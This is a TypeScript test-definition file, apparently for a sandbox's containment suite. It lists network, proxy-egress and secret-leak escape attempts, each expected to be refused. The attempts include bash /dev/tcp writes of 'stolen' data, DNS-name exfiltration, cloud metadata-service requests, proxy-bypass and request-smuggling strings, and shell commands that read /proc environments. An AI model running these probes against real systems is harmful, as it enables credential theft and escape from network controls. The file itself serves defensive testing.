import type { EgressRule } from "@sallyport/engine/ports";
import { type Attempt, CONTAINED, familyOf, refused } from "../attempt.ts";

const network = familyOf("network");
const UNREACHABLE = refused("ENETUNREACH", "ECONNREFUSED", "EADDRNOTAVAIL", "EAFNOSUPPORT", "EHOSTUNREACH");
const NO_FAMILY = refused("EAFNOSUPPORT", "EPERM", "EACCES", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT");
const NO_SOCKET = refused("ENOENT", "ECONNREFUSED", "EACCES", "ENOTDIR", "EPROTOTYPE");
const sockets = (name: string, ...numbers: number[]): Attempt =>
  network.attack(name, ["open_sockets", ...numbers.map(String)], NO_FAMILY);

export const NETWORK: Attempt[] = [
  network.attack(
    "a server on the host's loopback",
    ["connect_tcp", "127.0.0.1", "{tcp}", "::1", "{tcp}", "::ffff:127.0.0.1", "{tcp}", "127.0.0.53", "{tcp}"],
    UNREACHABLE,
    { core: true, bites: true },
  ),
  network.attack("a server on the host's other addresses", "connect_to_all_addresses", UNREACHABLE, {
    core: true,
    bites: true,
  }),
  network.attack(
    "a server on the internet",
    ["connect_tcp", "1.1.1.1", "443", "8.8.8.8", "53", "2606:4700:4700::1111", "443"],
    UNREACHABLE,
  ),
  network.attack(
    "the cloud's metadata service",
    ["connect_tcp", "169.254.169.254", "80", "fd00:ec2::254", "80"],
    UNREACHABLE,
  ),
  network.attack("datagrams to the host", "send_udp", UNREACHABLE, { core: true, bites: true }),
  network.attack("broadcast and multicast", "broadcast", UNREACHABLE),
  network.attack("data in a connection's first packet", "fast_open", UNREACHABLE),
  network.attack("questions to name servers", "ask_name_servers", UNREACHABLE, { core: true }),
  network.attack("the host's name servers in /etc", "read_resolver_settings", refused("NOTHING", "ENOENT")),
  network.script(
    "names as a carrier of data",
    'getent hosts stolen-by-name.example.com && echo ESCAPED; getent ahosts localhost.example && echo ESCAPED; echo "REFUSED names ENETUNREACH"',
    UNREACHABLE,
  ),
  network.script(
    "the shell's own network",
    'bash -c "echo stolen >/dev/tcp/127.0.0.1/$X_TCP" && echo ESCAPED; bash -c "echo stolen >/dev/udp/127.0.0.1/$X_UDP"; echo "REFUSED bash ECONNREFUSED"',
    UNREACHABLE,
  ),
  network.attack(
    "ping",
    "ping",
    refused("EACCES", "EPERM", "ENETUNREACH", "EPROTONOSUPPORT", "EADDRNOTAVAIL"),
  ),
  sockets("raw packets (ICMP, TCP)", 2, 3, 1, 2, 3, 6, 2, 3, 255, 10, 3, 58),
  sockets("the wire itself (AF_PACKET)", 17, 3, 0, 17, 2, 768, 17, 10, 0),
  sockets("the machine below (AF_VSOCK)", 40, 1, 0, 40, 2, 0),
  sockets("the kernel's cryptography (AF_ALG)", 38, 5, 0),
  sockets(
    "netlink: netfilter, audit, uevents, xfrm, diag",
    16,
    3,
    12,
    16,
    3,
    9,
    16,
    3,
    15,
    16,
    3,
    6,
    16,
    3,
    4,
    16,
    3,
    16,
  ),
  sockets(
    "odd families: key, bluetooth, CAN, TIPC, RDS, SMC, XDP, NFC, IEEE 802.15.4",
    15,
    3,
    2,
    31,
    3,
    1,
    29,
    3,
    1,
    30,
    1,
    0,
    21,
    5,
    0,
    43,
    1,
    0,
    44,
    3,
    0,
    39,
    5,
    0,
    36,
    2,
    0,
  ),
  sockets(
    "old families: X.25, AX.25, IPX, AppleTalk, DECnet, LLC, PPPoX",
    9,
    5,
    0,
    3,
    5,
    0,
    4,
    2,
    0,
    5,
    2,
    0,
    12,
    1,
    0,
    26,
    1,
    0,
    24,
    1,
    0,
  ),
  network.attack("a forbidden family with upper bits set", "open_socket_with_upper_bits", NO_FAMILY),
  network.attack("pairs of odd families", "pair_of_odd_family", refused("EAFNOSUPPORT", "EOPNOTSUPP")),
  network.attack("an interface of its own", "make_interface", refused("EPERM")),
  network.attack("an address of the host's", "add_address", refused("EPERM")),
  network.attack("a route", "add_route", refused("EPERM")),
  network.attack("interface settings", "interface_calls", refused("EPERM")),
  network.attack(
    "an abstract unix socket of the host's",
    ["connect_abstract", "{abstract}", "/tmp/.X11-unix/X0", "/tmp/.ICE-unix/1"],
    refused("ECONNREFUSED", "ENOENT"),
    { core: true, bites: true },
  ),
  network.attack("a unix socket of the host's by path", ["connect_unix", "{unix}"], NO_SOCKET, {
    core: true,
    bites: true,
  }),
  ...(["stream.sock", "private.sock"] as const).map((name) =>
    network.attack(
      `a unix socket in a folder that is only read (${name})`,
      ["connect_unix", `{sockets}/${name}`],
      NO_SOCKET,
      { core: true, bites: true, extra: "sockets" },
    ),
  ),
  network.attack(
    "a unix socket that the host makes after the mount",
    ["connect_unix_made_later", "{sockets}/later.sock"],
    NO_SOCKET,
    { core: true, bites: true, extra: "sockets" },
  ),
  network.attack(
    "fifos in a folder that is only read",
    ["open_fifos", "{sockets}/read-by-host", "{sockets}/written-by-host"],
    refused("ENXIO", "NOTHING", "EACCES"),
    { core: true, bites: true, extra: "sockets" },
  ),
  network.attack("a unix socket of the host's through links", "connect_unix_through_link", NO_SOCKET),
  network.attack(
    "container and system sockets",
    [
      "connect_unix",
      "/run/docker.sock",
      "/var/run/docker.sock",
      "/run/containerd/containerd.sock",
      "/run/podman/podman.sock",
      "/run/crio/crio.sock",
      "/run/dbus/system_bus_socket",
      "/run/systemd/private",
      "/run/systemd/notify",
      "/run/nscd/socket",
      "/dev/log",
      "/run/snapd.socket",
    ],
    NO_SOCKET,
  ),
];

const egress = familyOf("egress");
/** A host that is allowed, but that does not exist; and one whose name leads to the host itself. */
const ALLOWED: EgressRule[] = [{ host: "allowed.invalid", port: 443 }];
const LOOPBACK: EgressRule[] = [{ host: "localhost" }, { host: "127.0.0.1" }, { host: "*.localhost" }];
const REFUSED_BY_PROXY = refused("403", "400", "405", "502", "504", "431", "CLOSED");
const connect = (host: string): string => `CONNECT ${host} HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
const ask = (name: string, requests: string[], rules: EgressRule[] = ALLOWED): Attempt =>
  egress.attack(name, ["ask_proxy", ...requests], REFUSED_BY_PROXY, { egress: rules });

export const EGRESS: Attempt[] = [
  {
    ...ask("a host that is not allowed, by CONNECT", [
      connect("127.0.0.1:{tcp}"),
      connect("localhost:{tcp}"),
      connect("[::1]:{tcp}"),
    ]),
    core: true,
  },
  ask("a host that is not allowed, by plain HTTP", [
    "GET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{tcp}\\r\\n\\r\\n",
    "GET http://localhost:{tcp}/ HTTP/1.0\\r\\n\\r\\n",
  ]),
  ask("an allowed host on another port", [connect("allowed.invalid:{tcp}"), connect("allowed.invalid:22")]),
  ask(
    "addresses in odd writing",
    [
      "2130706433",
      "0x7f000001",
      "017700000001",
      "127.1",
      "0",
      "0.0.0.0",
      "[::ffff:127.0.0.1]",
      "[::ffff:7f00:1]",
      "[::]",
      "127.0.0.1.",
      "%31%32%37.0.0.1",
    ].map((host) => connect(`${host}:{tcp}`)),
  ),
  ask(
    "an allowed name that leads to the host itself",
    ["localhost", "127.0.0.1", "a.localhost", "LOCALHOST."].map((host) => connect(`${host}:{tcp}`)),
    LOOPBACK,
  ),
  ask("the metadata service", [
    connect("169.254.169.254:80"),
    connect("metadata.google.internal:80"),
    "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\n\\r\\n",
  ]),
  ask("an allowed Host header on a forbidden address", [
    "GET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\nHost: allowed.invalid:443\\r\\n\\r\\n",
    "CONNECT 127.0.0.1:{tcp} HTTP/1.1\\r\\nHost: allowed.invalid:443\\r\\n\\r\\n",
  ]),
  ask("smuggled lines and user names", [
    "CONNECT allowed.invalid:443@127.0.0.1:{tcp} HTTP/1.1\\r\\n\\r\\n",
    "GET http://allowed.invalid:443@127.0.0.1:{tcp}/ HTTP/1.1\\r\\n\\r\\n",
    "GET http://allowed.invalid:443 HTTP/1.1\\r\\nX: y\\nGET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\n\\r\\n",
    "GET http://127.0.0.1:{tcp}#allowed.invalid/ HTTP/1.1\\r\\n\\r\\n",
    "GET http://127.0.0.1:{tcp}\\\\.allowed.invalid/ HTTP/1.1\\r\\n\\r\\n",
  ]),
  ask("the proxy as a plain server, and other methods", [
    "GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{tcp}\\r\\n\\r\\n",
    "OPTIONS * HTTP/1.1\\r\\nHost: 127.0.0.1:{tcp}\\r\\n\\r\\n",
    "GET file:///etc/passwd HTTP/1.1\\r\\n\\r\\n",
    "GET unix:{unix} HTTP/1.1\\r\\n\\r\\n",
    "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
  ]),
  egress.attack(
    "forbidden hosts by SOCKS",
    [
      "ask_socks",
      "127.0.0.1",
      "{tcp}",
      "localhost",
      "{tcp}",
      "0.0.0.0",
      "{tcp}",
      "169.254.169.254",
      "80",
      "allowed.invalid",
      "22",
    ],
    refused("REFUSAL", "CLOSED"),
    { egress: ALLOWED, core: true },
  ),
  egress.attack(
    "an allowed name that leads to the host itself, by SOCKS",
    ["ask_socks", "127.0.0.1", "{tcp}", "localhost", "{tcp}"],
    refused("REFUSAL", "CLOSED"),
    { egress: LOOPBACK },
  ),
  egress.attack("past the proxy", ["connect_tcp", "127.0.0.1", "{tcp}", "1.1.1.1", "443"], UNREACHABLE, {
    egress: ALLOWED,
  }),
  egress.attack("garbage", "proxy_garbage", REFUSED_BY_PROXY, { egress: ALLOWED }),
  egress.attack("more connections than allowed", "proxy_connections", CONTAINED, { egress: ALLOWED }),
  egress.attack(
    "descriptors over the proxy's socket",
    "proxy_descriptors",
    [CONTAINED, refused("EACCES", "ENOENT", "400", "403", "CLOSED")],
    { egress: ALLOWED },
  ),
  egress.attack("killing the forwarder", "kill_forwarder", CONTAINED, { egress: ALLOWED }),
];

const leaks = familyOf("leaks");
const NOTHING = refused("NOTHING", "ENOENT", "EACCES", "EPERM", "ENOTDIR");

export const LEAKS: Attempt[] = [
  leaks.attack("secrets in its environment", "own_environment", NOTHING, { core: true }),
  leaks.attack("environments and arguments of all it sees", "environments_and_arguments", NOTHING, {
    core: true,
    bites: true,
  }),
  leaks.attack("environments and arguments of host processes", "host_environments_and_arguments", NOTHING, {
    bites: true,
  }),
  leaks.attack("the host's processes", "processes_of_the_host", NOTHING, { bites: true }),
  leaks.attack("inherited descriptors", "inherited_descriptors", refused("EBADF"), { core: true }),
  leaks.attack("what its streams are", "standard_streams", NOTHING),
  leaks.attack("the host's sockets", "sockets_of_the_host", NOTHING, { bites: true }),
  leaks.attack("the host's name", "name_of_the_host", NOTHING, { bites: true }),
  leaks.attack("the host's interfaces", "interfaces_of_the_host", NOTHING),
  leaks.attack("the host's shared memory", "shared_memory_of_the_host", NOTHING, { bites: true }),
  leaks.script(
    "secrets in anything a shell can see",
    'env | grep CANARY[-] && echo ESCAPED; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | grep -a CANARY[-] && echo ESCAPED; cat /proc/self/mountinfo | grep CANARY[-] && echo ESCAPED; echo "REFUSED shell NOTHING"',
    NOTHING,
  ),
];
